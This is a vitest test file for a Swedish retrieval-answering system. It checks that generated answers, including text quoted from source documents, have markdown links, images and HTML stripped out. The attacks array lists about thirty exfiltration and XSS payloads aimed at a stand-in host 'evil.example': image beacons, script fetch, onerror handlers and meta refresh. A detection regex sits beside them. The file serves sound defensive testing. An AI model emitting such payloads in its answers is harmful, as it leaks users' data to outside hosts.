// Whatever a document says, an answer never loads, links or runs anything.
import { expect, test } from 'vitest';
import { cleanAnswer, quotable } from './clean-answer.ts';
import { answerOffline } from './offline.ts';
import { aPage, barePhrase } from './source-fixture.ts';

const address = 'https://evil.example/steal?q=hemligt';
const attacks = [
  `![spårning](${address})`, `![](${address})`, `![x][1]\n\n[1]: ${address}`, `[klicka här](${address})`,
  `[a](javascript:alert(1))`, `<img src="${address}">`, `<img src=x onerror=alert(1)>`, `<script>fetch('${address}')</script>`,
  `<a href="${address}">länk</a>`, `<${address}>`, address, `www.evil.example/steal`, `<iframe src="${address}"></iframe>`,
  `<svg/onload=alert(1)>`, `<style>@import '${address}'</style>`, `[![bild](${address})](${address})`,
  `![a](<${address}>)`, `![a](${address} "titel")`, `<IMG SRC="${address}"`, `&lt;img src=x&gt;`, `[x]: ${address}`,
  `<video src="${address}">`, `<base href="${address}">`, `<form action="${address}">`, `<object data="${address}">`,
  `<link rel=stylesheet href="${address}">`, `![${'a'.repeat(50)}](${address})`, `[data](data:text/html;base64,PHNjcmlwdD4=)`,
  `<meta http-equiv=refresh content="0;url=${address}">`, `ftp://evil.example/fil`,
]; // biome-ignore format: one glance

const dangerous =
  /<[a-z/!]|!\[|\]\(|https?:\/\/|ftp:\/\/|javascript:|data:text|www\.[a-z]|^\s*\[[^\]]+\]:/imu;

test.each(attacks)('%s becomes plain words', (attack) => {
  expect(cleanAnswer(`Före ${attack} efter`)).not.toMatch(dangerous);
  expect(quotable(`Före ${attack} efter`)).not.toMatch(dangerous);
});

test.each(attacks)('quoted from a document, %s is harmless too', (attack) => {
  const source = aPage('Avtal', 1, `Uppsägningstiden är sex månader ${attack.replaceAll('\n', ' ')}`);
  const question = 'Hur lång är uppsägningstiden?';
  const answer = answerOffline({ question, language: 'sv', sources: [source], phrase: barePhrase });
  expect(answer.text).toContain('sex månader');
  expect(answer.text).not.toMatch(dangerous);
});

test('markers stay, markers inside quoted text do not', () => {
  expect(cleanAnswer('Enligt planen [1] växer vi [2](https://x.example).')).toBe(
    'Enligt planen [1] växer vi [2].',
  );
  expect(quotable('Se not [12] och [3].')).toBe('Se not (12) och (3).');
});
